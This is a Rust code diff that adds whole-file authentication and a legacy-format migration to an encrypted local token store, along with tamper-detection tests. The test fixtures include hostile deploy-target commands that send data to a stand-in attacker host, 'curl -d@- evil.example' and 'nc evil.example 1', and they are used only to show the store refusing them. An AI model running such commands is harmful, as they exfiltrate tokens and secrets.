@@ -1,9 +1,19 @@
 //! The encrypted local token store: named profiles (app, system user, token, expiry, scopes, deploy targets, watch
 //! state) in one JSON file, mode 0600, replaced atomically under an advisory lock.
 //!
-//! Only the secret material (the token and the app secret) is encrypted, with `suat_core::crypto::SecretBox`
-//! (XChaCha20-Poly1305). Each ciphertext is bound to its profile name, app and field as associated data, so it cannot
-//! be moved to another profile. Metadata stays readable so the file can be audited without the key.
+//! The secret material (the token and the app secret) is encrypted with `suat_core::crypto::SecretBox`
+//! (XChaCha20-Poly1305); each ciphertext is bound to its profile name, app and field as associated data, so it cannot
+//! be moved to another profile. Metadata stays readable so the file can be audited without the key, but it is not
+//! trusted without it: the whole document (format, KDF parameters, key check and every profile, deploy targets and
+//! expiries included) is authenticated by `mac`, an AEAD tag under the store key over an empty plaintext with the
+//! document as associated data. Any edit made without the key (a `cmd:` target added, an expiry moved) fails that
+//! check, and every operation then refuses the file ([`ClientError::StoreTampered`]) before it reads or delivers
+//! anything.
+//!
+//! Stores written before the tag existed (`suat-token-store/1`) are read only to be rewritten: [`TokenStore::open`]
+//! checks their key, re-seals them as `suat-token-store/2` with the tag, and from then on only the new format is
+//! accepted. The new format seals its key check and secrets under new associated data, so a `/2` file cannot be
+//! passed off as a `/1` one by stripping its tag.
 
 mod key;
 
@@ -22,7 +32,9 @@ use std::{
 };
 use suat_core::{crypto::SecretBox, AccessToken, AppId, AppSecret, UserId};
 
-const FORMAT: &str = "suat-token-store/1";
+const FORMAT: &str = "suat-token-store/2";
+/// The format before the whole document was authenticated; accepted by `open` only to rewrite it as [`FORMAT`].
+const LEGACY_FORMAT: &str = "suat-token-store/1";
 /// Sealed under the key to tell "wrong key" from "tampered profile" with a clear message.
 const CHECK_PLAINTEXT: &[u8] = b"suat token store key check";
 
@@ -88,6 +100,18 @@ struct StoreFile {
     check: String,
     #[serde(default)]
     profiles: BTreeMap<String, ProfileRecord>,
+    /// Hex of the tag over everything above ([`TokenStore::tag_aad`]); absent only in the legacy format.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    mac: Option<String>,
+}
+
+/// What the tag covers: the document as parsed, so whatever the program believes is what was authenticated.
+#[derive(Serialize)]
+struct Authenticated<'a> {
+    format: &'a str,
+    kdf: &'a KdfParams,
+    check: &'a str,
+    profiles: &'a BTreeMap<String, ProfileRecord>,
 }
 
 /// A profile as written: secrets sealed, hex-encoded.
@@ -152,8 +176,8 @@ pub fn default_store_path() -> PathBuf {
     base.join("suat").join("tokens.json")
 }
 
-fn aad(profile: &str, app: AppId, field: &str) -> Vec<u8> {
-    format!("{FORMAT}|{profile}|{app}|{field}").into_bytes()
+fn aad(format: &str, profile: &str, app: AppId, field: &str) -> Vec<u8> {
+    format!("{format}|{profile}|{app}|{field}").into_bytes()
 }
 
 impl TokenStore {
@@ -174,23 +198,27 @@ impl TokenStore {
         }
         let _lock = FileLock::acquire(path)?;
         let existing = read_file(path)?;
-        let (kdf, check) = match &existing {
+        let kdf = match &existing {
+            Some(f) if f.format == FORMAT || f.format == LEGACY_FORMAT => f.kdf.clone(),
             Some(f) => {
-                if f.format != FORMAT {
-                    return Err(store_err(path, format!("unknown format {:?} (expected {FORMAT})", f.format)));
-                }
-                (f.kdf.clone(), Some(f.check.clone()))
+                return Err(store_err(path, format!("unknown format {:?} (expected {FORMAT})", f.format)));
             }
-            None => (KdfParams::generate(), None),
+            None => KdfParams::generate(),
         };
         let sbox = SecretBox::new(&key.derive(&kdf)?);
         let store = TokenStore { path: path.to_path_buf(), sbox };
-        match check {
-            Some(c) => {
-                let sealed = hex::decode(c).map_err(|_| store_err(path, "corrupt key check".into()))?;
-                match store.sbox.open(FORMAT.as_bytes(), &sealed) {
+        match existing {
+            Some(f) => {
+                // The key check first: a wrong key must say so, not "tampered".
+                let sealed = hex::decode(&f.check).map_err(|_| store_err(path, "corrupt key check".into()))?;
+                match store.sbox.open(f.format.as_bytes(), &sealed) {
                     Ok(p) if p == CHECK_PLAINTEXT => {}
                     _ => return Err(ClientError::StoreKey { path: path.display().to_string() }),
+                }
+                if f.format == LEGACY_FORMAT {
+                    store.migrate(f)?;
+                } else {
+                    store.verify(&f)?;
                 }
                 #[cfg(unix)]
                 if let Ok(m) = crate::fsutil::mode(path) {
@@ -201,8 +229,8 @@ impl TokenStore {
             }
             None => {
                 let check = hex::encode(store.sbox.seal(&mut rand::rngs::OsRng, FORMAT.as_bytes(), CHECK_PLAINTEXT));
-                let f = StoreFile { format: FORMAT.into(), kdf, check, profiles: BTreeMap::new() };
-                store.write(&f)?;
+                let mut f = StoreFile { format: FORMAT.into(), kdf, check, profiles: BTreeMap::new(), mac: None };
+                store.write(&mut f)?;
             }
         }
         Ok(store)
@@ -237,7 +265,7 @@ impl TokenStore {
         let _lock = FileLock::acquire(&self.path)?;
         let mut f = self.load()?;
         f.profiles.insert(profile.name.clone(), self.encrypt(profile));
-        self.write(&f)
+        self.write(&mut f)
     }
 
     /// Read-modify-write of one profile under the lock; `f` may not rename it.
@@ -249,7 +277,7 @@ impl TokenStore {
         f(&mut p);
         p.name = name.to_owned();
         file.profiles.insert(name.to_owned(), self.encrypt(&p));
-        self.write(&file)?;
+        self.write(&mut file)?;
         Ok(p)
     }
 
@@ -270,7 +298,7 @@ impl TokenStore {
         f(&mut p);
         p.name = name.to_owned();
         file.profiles.insert(name.to_owned(), self.encrypt(&p));
-        self.write(&file)?;
+        self.write(&mut file)?;
         Ok(p)
     }
 
@@ -301,29 +329,77 @@ impl TokenStore {
         let mut f = self.load()?;
         let had = f.profiles.remove(name).is_some();
         if had {
-            self.write(&f)?;
+            self.write(&mut f)?;
         }
         Ok(had)
     }
 
+    /// The file, refused unless its tag verifies: nothing in it is used before that.
     fn load(&self) -> Result<StoreFile, ClientError> {
-        read_file(&self.path)?.ok_or_else(|| store_err(&self.path, "the store file disappeared".into()))
+        let f = read_file(&self.path)?.ok_or_else(|| store_err(&self.path, "the store file disappeared".into()))?;
+        self.verify(&f)?;
+        Ok(f)
     }
 
-    fn write(&self, f: &StoreFile) -> Result<(), ClientError> {
+    fn tag_aad(f: &StoreFile) -> Vec<u8> {
+        let doc = Authenticated { format: &f.format, kdf: &f.kdf, check: &f.check, profiles: &f.profiles };
+        let mut aad = format!("{FORMAT}|document|").into_bytes();
+        aad.extend(serde_json::to_vec(&doc).expect("the store document serializes"));
+        aad
+    }
+
+    /// A legacy file here (after `open` rewrote it) or a missing tag is as untrusted as a wrong one.
+    fn verify(&self, f: &StoreFile) -> Result<(), ClientError> {
+        let tampered = || ClientError::StoreTampered { path: self.path.display().to_string() };
+        if f.format != FORMAT {
+            return Err(tampered());
+        }
+        let tag = hex::decode(f.mac.as_deref().ok_or_else(tampered)?).map_err(|_| tampered())?;
+        match self.sbox.open(&Self::tag_aad(f), &tag) {
+            Ok(p) if p.is_empty() => Ok(()),
+            _ => Err(tampered()),
+        }
+    }
+
+    /// Rewrites a legacy (`/1`) store as [`FORMAT`]: secrets and key check re-sealed under the new associated data,
+    /// the whole document tagged. Its key was checked by the caller.
+    fn migrate(&self, old: StoreFile) -> Result<(), ClientError> {
+        let mut profiles = BTreeMap::new();
+        for (name, rec) in &old.profiles {
+            let p = self.decrypt_as(LEGACY_FORMAT, name, rec)?;
+            profiles.insert(name.clone(), self.encrypt(&p));
+        }
+        let check = hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, FORMAT.as_bytes(), CHECK_PLAINTEXT));
+        let mut f = StoreFile { format: FORMAT.into(), kdf: old.kdf, check, profiles, mac: None };
+        self.write(&mut f)?;
+        tracing::info!(path = %self.path.display(), "token store rewritten as {FORMAT}: the whole file is now authenticated");
+        Ok(())
+    }
+
+    /// Tags the document and replaces the file with it.
+    fn write(&self, f: &mut StoreFile) -> Result<(), ClientError> {
+        f.format = FORMAT.into();
+        f.mac = Some(hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, &Self::tag_aad(f), b"")));
         let mut bytes = serde_json::to_vec_pretty(f).map_err(|e| store_err(&self.path, e.to_string()))?;
         bytes.push(b'\n');
         write_private_atomic(&self.path, &bytes)
     }
 
     fn seal(&self, profile: &str, app: AppId, field: &str, plaintext: &str) -> String {
-        hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, &aad(profile, app, field), plaintext.as_bytes()))
+        hex::encode(self.sbox.seal(&mut rand::rngs::OsRng, &aad(FORMAT, profile, app, field), plaintext.as_bytes()))
     }
 
-    fn unseal(&self, profile: &str, app: AppId, field: &str, sealed: &str) -> Result<String, ClientError> {
+    fn unseal(
+        &self,
+        format: &str,
+        profile: &str,
+        app: AppId,
+        field: &str,
+        sealed: &str,
+    ) -> Result<String, ClientError> {
         let bad = || store_err(&self.path, format!("profile {profile:?}: {field} does not decrypt (tampered file?)"));
         let raw = hex::decode(sealed).map_err(|_| bad())?;
-        let plain = self.sbox.open(&aad(profile, app, field), &raw).map_err(|_| bad())?;
+        let plain = self.sbox.open(&aad(format, profile, app, field), &raw).map_err(|_| bad())?;
         String::from_utf8(plain).map_err(|_| bad())
     }
 
@@ -343,14 +419,18 @@ impl TokenStore {
     }
 
     fn decrypt(&self, name: &str, r: &ProfileRecord) -> Result<Profile, ClientError> {
+        self.decrypt_as(FORMAT, name, r)
+    }
+
+    fn decrypt_as(&self, format: &str, name: &str, r: &ProfileRecord) -> Result<Profile, ClientError> {
         Ok(Profile {
             name: name.to_owned(),
             app_id: r.app_id,
             system_user_id: r.system_user_id,
             kind: r.kind.clone(),
-            token: AccessToken::from_presented(self.unseal(name, r.app_id, "token", &r.token)?),
+            token: AccessToken::from_presented(self.unseal(format, name, r.app_id, "token", &r.token)?),
             app_secret: match &r.app_secret {
-                Some(s) => Some(AppSecret::new(self.unseal(name, r.app_id, "app_secret", s)?)),
+                Some(s) => Some(AppSecret::new(self.unseal(format, name, r.app_id, "app_secret", s)?)),
                 None => None,
             },
             issued_at: r.issued_at,
@@ -429,8 +509,112 @@ mod tests {
         let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
         v["profiles"]["b"]["token"] = v["profiles"]["a"]["token"].clone();
         std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
-        assert!(matches!(s.get("b"), Err(ClientError::Store { .. })));
-        assert!(s.get("a").is_ok());
+        assert!(matches!(s.get("b"), Err(ClientError::StoreTampered { .. })));
+    }
+
+    /// Edits an attacker without the key could make: each must be refused by every operation, and leave the file
+    /// as the attacker left it (nothing re-tagged, nothing delivered).
+    #[test]
+    fn any_edit_without_the_key_is_refused_by_every_operation() {
+        type Edit = fn(&mut serde_json::Value);
+        let edits: [(&str, Edit); 6] = [
+            ("deploy target changed", |v| v["profiles"]["prod"]["targets"][0] = "cmd:curl -d@- evil.example".into()),
+            ("deploy target added", |v| {
+                v["profiles"]["prod"]["targets"].as_array_mut().unwrap().push("cmd:nc evil.example 1".into())
+            }),
+            ("expiry edited", |v| v["profiles"]["prod"]["expires_at"] = 99_999_999_999i64.into()),
+            ("tag removed", |v| {
+                v.as_object_mut().unwrap().remove("mac");
+            }),
+            ("profile removed", |v| {
+                v["profiles"].as_object_mut().unwrap().remove("other");
+            }),
+            ("tag replaced by a legacy format", |v| {
+                v["format"] = LEGACY_FORMAT.into();
+                v.as_object_mut().unwrap().remove("mac");
+            }),
+        ];
+        for (what, edit) in edits {
+            let dir = tempfile::tempdir().unwrap();
+            let path = dir.path().join("tokens.json");
+            let s = TokenStore::open(&path, &key()).unwrap();
+            s.put(&sample("prod")).unwrap();
+            s.put(&sample("other")).unwrap();
+            let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+            edit(&mut v);
+            let tampered = serde_json::to_vec_pretty(&v).unwrap();
+            std::fs::write(&path, &tampered).unwrap();
+
+            let message = format!(
+                "token store {}: modified without the store key (the authentication tag does not match); refusing to use it",
+                path.display()
+            );
+            let refused = |r: Result<(), ClientError>| match r {
+                Err(e @ ClientError::StoreTampered { .. }) => assert_eq!(e.to_string(), message, "{what}"),
+                Err(ClientError::StoreKey { .. }) if what.contains("legacy") => {}
+                other => panic!("{what}: expected a refusal, got {other:?}"),
+            };
+            refused(TokenStore::open(&path, &key()).map(|_| ()));
+            if !what.contains("legacy") {
+                refused(s.get("prod").map(|_| ()));
+                refused(s.list().map(|_| ()));
+                refused(s.update("prod", |p| p.watch.rotations += 1).map(|_| ()));
+                refused(s.put(&sample("new")));
+                refused(s.remove("other").map(|_| ()));
+            }
+            assert_eq!(std::fs::read(&path).unwrap(), tampered, "{what}: the file is left as found");
+        }
+    }
+
+    /// Writes a store as the release before the whole-document tag did (`suat-token-store/1`).
+    fn write_legacy(path: &Path, k: &StoreKey) {
+        let kdf = KdfParams::generate();
+        let sbox = SecretBox::new(&k.derive(&kdf).unwrap());
+        let seal = |aad: &[u8], pt: &[u8]| hex::encode(sbox.seal(&mut rand::rngs::OsRng, aad, pt));
+        let p = sample("prod");
+        let rec = ProfileRecord {
+            app_id: p.app_id,
+            system_user_id: p.system_user_id,
+            kind: None,
+            token: seal(&aad(LEGACY_FORMAT, "prod", p.app_id, "token"), b"EAAtopsecrettoken"),
+            app_secret: Some(seal(&aad(LEGACY_FORMAT, "prod", p.app_id, "app_secret"), b"appsecretvalue")),
+            issued_at: None,
+            expires_at: p.expires_at,
+            scopes: p.scopes.clone(),
+            targets: p.targets.clone(),
+            watch: WatchState::default(),
+        };
+        let f = StoreFile {
+            format: LEGACY_FORMAT.into(),
+            kdf,
+            check: seal(LEGACY_FORMAT.as_bytes(), CHECK_PLAINTEXT),
+            profiles: BTreeMap::from([("prod".to_owned(), rec)]),
+            mac: None,
+        };
+        std::fs::write(path, serde_json::to_vec_pretty(&f).unwrap()).unwrap();
+    }
+
+    #[test]
+    fn a_legacy_store_is_read_once_and_rewritten_authenticated() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("tokens.json");
+        write_legacy(&path, &key());
+        assert!(matches!(TokenStore::open(&path, &StoreKey::Raw([1; 32])), Err(ClientError::StoreKey { .. })));
+        assert!(std::fs::read_to_string(&path).unwrap().contains(LEGACY_FORMAT), "a wrong key migrates nothing");
+
+        let s = TokenStore::open(&path, &key()).unwrap();
+        let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        assert_eq!(v["format"], FORMAT);
+        assert!(v["mac"].is_string());
+        let p = s.get("prod").unwrap();
+        assert_eq!((p.token.expose(), p.app_secret.unwrap().expose()), ("EAAtopsecrettoken", "appsecretvalue"));
+        assert_eq!((p.expires_at, p.targets), (Some(1000), sample("prod").targets));
+
+        // Once rewritten, an edit is refused like in any other store.
+        let mut v = v;
+        v["profiles"]["prod"]["expires_at"] = 5.into();
+        std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
+        assert!(matches!(s.get("prod"), Err(ClientError::StoreTampered { .. })));
     }
 
     #[test]
